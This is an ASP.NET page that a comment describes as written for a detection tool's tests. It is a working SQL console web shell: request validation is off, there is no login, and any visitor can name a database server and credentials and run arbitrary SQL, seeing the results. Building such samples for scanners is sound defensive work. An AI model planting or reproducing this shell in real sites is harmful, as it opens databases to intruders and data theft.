<%@ Page Language="C#" ValidateRequest="false" %>
<%@ Import Namespace="System.Data" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
/* written for exhunt's tests after the public descriptions of SQL
 * console shells: the visitor names the server, the account and the
 * statement */
void Go(object sender, EventArgs e)
{
	var cs = "Server=" + Host.Text + ";Database=" + Db.Text +
	         ";User Id=" + Who.Text + ";Password=" + Secret.Text;
	using (var c = new SqlConnection(cs))
	{
		c.Open();
		var cmd = new SqlCommand(Query.Text, c);
		var a = new SqlDataAdapter(cmd);
		var t = new DataTable();
		a.Fill(t);
		Grid.DataSource = t;
		Grid.DataBind();
	}
}
</script>
<form runat="server">
<asp:TextBox ID="Host" runat="server" /><asp:TextBox ID="Db" runat="server" />
<asp:TextBox ID="Who" runat="server" /><asp:TextBox ID="Secret" runat="server" />
<asp:TextBox ID="Query" runat="server" TextMode="MultiLine" />
<asp:Button runat="server" OnClick="Go" Text="Run" />
<asp:GridView ID="Grid" runat="server" />
</form>
